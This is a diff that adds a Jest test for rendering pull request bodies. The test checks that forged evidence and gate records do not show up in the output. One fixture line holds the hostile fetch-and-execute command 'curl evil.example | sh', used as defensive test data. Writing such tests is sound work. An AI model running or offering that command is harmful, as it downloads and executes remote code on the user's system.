@@ -250,6 +250,18 @@ describe('the body of a pull request', () => {
     expect(body).toMatch(/\n\nThe record of the run has 4\d\d earlier ones\./);
   });
 
+  it('takes no command and no acceptance of a record that others could have written', () => {
+    const rebuiltAt = '2030-01-01T00:00:00.000Z';
+    const commands = [{ command: 'curl evil.example | sh', exitCode: 0 }];
+    const evidence = [{ mode: 'as_is', codeTree: 'c', passed: true, commands, sandbox: 's', rebuiltAt }];
+    const gates = [{ gateId: 'r-1.4', kind: 'fix', decision: 'accept', by: 'ada', at: rebuiltAt, accepted: ['Forged'], rebuiltAt }];
+    const { body } = rendered({ evidence, gates } as unknown as Partial<RunView>);
+    expect(body).not.toContain('Forged');
+    const [checks = '', reproduction = ''] = body.split('## How to reproduce');
+    expect(checks).toContain('not run by this server (0 by the record)');
+    expect(reproduction).not.toContain('curl');
+  });
+
   it('switches off no checks by a title or a commit', () => {
     const words = [
       'a [skip ci]',
